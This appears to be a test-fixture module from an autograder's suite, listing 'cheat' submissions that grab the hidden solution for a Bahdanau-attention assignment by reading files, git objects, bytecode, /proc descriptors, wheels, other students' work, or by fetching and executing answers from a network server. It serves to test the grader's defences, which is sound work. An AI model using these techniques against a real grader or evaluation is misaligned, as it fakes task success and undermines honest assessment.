"""Cheats that read answers from files: the solution, its copies, other students' answers."""

from __future__ import annotations

from tests.submissions.cheats.cheat_builders import in_code, thief


def _one(slug: str, title: str, stealing: str, **more):
    return thief("file_reading", slug, title, stealing, **more)


SEARCH = """
import time

def search(roots, wanted, seconds=15):
    until = time.monotonic() + seconds
    for root in roots:
        for folder, folders, names in os.walk(root):
            folders[:] = [n for n in folders if n not in ("proc", "sys", "dev", "node_modules")]
            if time.monotonic() > until:
                return
            for name in names:
                if wanted(name):
                    yield Path(folder, name)
"""

CHEATS = [
    _one(
        "source-two-up",
        "the source notebook, from where nbgrader runs",
        """
adopt_file("../../../solutions/bahdanau/scores.ipynb")
""",
    ),
    _one(
        "course-folder",
        "the course's folder, found by the working folders of all processes",
        """
adopt_file(course() / "solutions/bahdanau/scores/solution.py")
adopt_file(course() / "solutions/bahdanau/scores.ipynb")
""",
    ),
    _one(
        "beside-the-package",
        "solutions/ beside the installed autograder",
        """
import autograder
adopt_file(Path(autograder.__file__).parents[1] / "solutions/bahdanau/scores/solution.py")
""",
    ),
    _one(
        "where-pip-says",
        "the repository, where pip's records say it is",
        """
from importlib import metadata
from urllib.parse import unquote, urlparse
record = json.loads(metadata.distribution("attention-course").read_text("direct_url.json"))
adopt_file(Path(unquote(urlparse(record["url"]).path)) / "solutions/bahdanau/scores/solution.py")
""",
    ),
    _one(
        "where-the-finder-says",
        "the repository, where an editable install's finder says it is",
        """
import re
for entry in sys.path:
    for path in Path(entry or ".").glob("__editable__*finder.py"):
        for root in re.findall(r"'solutions': '([^']+)'", path.read_text()):
            adopt_file(Path(root) / "bahdanau/scores/solution.py")
""",
    ),
    _one(
        "bank-of-answers",
        "the right answers of our own tests",
        """
import autograder
root = Path(autograder.__file__).parents[1]
sys.path.append(str(root))
bank = root / "tests/answers/bahdanau/scores"
for name in ("masked_softmax", "additive_score", "AdditiveAttention"):
    space = {}
    exec((bank / f"{name}.py").read_text(), space)
    answer = space["RIGHT"][0]
    answer.__name__ = name
    STOLEN[name] = answer
""",
    ),
    _one(
        "history",
        "the repository's history, by git",
        """
import subprocess
import autograder
root = Path(autograder.__file__).parents[1]
for folder in (root, course()):
    shown = subprocess.run(
        ["git", "-c", "safe.directory=*", "show", "HEAD:solutions/bahdanau/scores/solution.py"],
        cwd=folder, capture_output=True, text=True, timeout=20,
    )
    adopt(shown.stdout)
""",
    ),
    _one(
        "history-by-hand",
        "the repository's loose objects, unpacked without git",
        """
import zlib
import autograder
for path in (Path(autograder.__file__).parents[1] / ".git/objects").glob("??/*"):
    try:
        text = zlib.decompress(path.read_bytes())
    except (OSError, zlib.error):
        continue
    if b"def masked_softmax" in text and b"### BEGIN" + b" SOLUTION" in text:
        adopt(text.split(b"\\0", 1)[1].decode("utf-8", "ignore"))
""",
    ),
    _one(
        "byte-code",
        "the compiled solution in __pycache__",
        """
import marshal
import autograder
roots = [Path(autograder.__file__).parents[1], course()]
for root in roots:
    for path in (root / "solutions/bahdanau/scores/__pycache__").glob("notebook.*.pyc"):
        adopt(marshal.loads(path.read_bytes()[16:]))
""",
    ),
    _one(
        "other-submissions",
        "what the others have handed in",
        """
for path in sorted(course().glob("submitted/*/bahdanau/scores.ipynb")):
    if path.parents[1].name == "aaron":
        adopt_file(path)
for path in sorted(Path("../..").glob("*/bahdanau/scores.ipynb")):
    if path.parents[1].name == "aaron":
        adopt_file(path)
""",
    ),
    _one(
        "graded-submissions",
        "what the others got graded, and their feedback",
        """
import html, re
for path in sorted(course().glob("autograded/aaron/bahdanau/scores.ipynb")):
    adopt_file(path)
for path in sorted(course().glob("feedback/aaron/bahdanau/scores.html")):
    text = html.unescape(re.sub(r"<[^>]+>", "", path.read_text()))
    for found in re.findall(r"def masked_softmax.*?return weights \\* mask", text, flags=re.S):
        adopt(found)
""",
    ),
    _one(
        "whole-disk",
        "any file on the disk that looks like a solution",
        """
def looks_right(path):
    try:
        return path.stat().st_size < 1 << 20 and b"### BEGIN" + b" SOLUTION" in path.read_bytes()
    except OSError:
        return False
roots = [Path.cwd(), Path.home(), "/tmp", "/home", "/srv", "/opt", "/work", "/mnt", "/usr/local"]
for path in search(roots, lambda name: name in ("solution.py", "scores.ipynb")):
    if looks_right(path):
        adopt_file(path)
        break
""",
        before=SEARCH,
    ),
    _one(
        "other-roots",
        "the roots of other processes in /proc",
        """
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for start in (f"/proc/{pid}/root", f"/proc/{pid}/cwd"):
        try:
            for path in Path(start).resolve().glob("solutions/bahdanau/scores/solution.py"):
                adopt_file(path)
            home = Path(start + os.path.realpath(str(course())))
            adopt_file(home / "solutions/bahdanau/scores/solution.py")
        except OSError:
            pass
""",
    ),
    _one(
        "open-files",
        "every descriptor that is open, from its beginning",
        """
for number in range(3, 300):
    try:
        found = os.pread(number, 1 << 22, 0)
    except OSError:
        continue
    if b"SOLUTION" in found:
        adopt(found.decode("utf-8", "ignore"))
for path in Path("/proc").glob("[0-9]*/fd/*"):
    try:
        if path.stat().st_size < 1 << 22 and path.resolve().suffix in (".py", ".ipynb"):
            adopt_file(path.resolve())
    except OSError:
        pass
""",
    ),
    _one(
        "installed-copies",
        "copies in site-packages, wheels and caches of pip",
        """
import zipfile
for entry in [*sys.path, Path.home() / ".cache"]:
    for path in Path(entry or ".").glob("solutions/bahdanau/scores/solution.py"):
        adopt_file(path)
    for path in Path(entry or ".").glob("**/attention_course*.whl"):
        with zipfile.ZipFile(path) as wheel:
            adopt(wheel.read("solutions/bahdanau/scores/solution.py").decode())
""",
    ),
    _one(
        "from-the-network",
        "a friend's server on this machine, and one outside",
        """
import socket
from urllib.request import urlopen
socket.setdefaulttimeout(3)
for address in ("127.0.0.1:@PORT@", "localhost:@PORT@", "192.0.2.1:80"):
    try:
        adopt(urlopen(f"http://{address}/answers.py").read().decode())
    except OSError as error:
        print(error)
""",
    ),
    in_code(
        "file_reading",
        "from-the-network-when-called",
        "the same, asked with the inputs at each call",
        """
import json, socket

def ask(function, **given):
    data = json.dumps({name: t.tolist() for name, t in given.items()})
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as line:
        request = f"POST /{function} HTTP/1.0\\r\\nContent-Length: {len(data)}\\r\\n\\r\\n{data}"
        line.sendall(request.encode())
        reply = b""
        while part := line.recv(65536):
            reply += part
    return reply.split(b"\\r\\n\\r\\n", 1)[1].decode()
""",
        {
            "masked_softmax": """
def masked_softmax(scores, mask):
    space = {"torch": torch}
    exec(ask("masked_softmax", scores=scores.detach(), mask=mask), space)
    return space["masked_softmax"](scores, mask)
"""
        },
        attacks=("masked_softmax",),
    ),
]
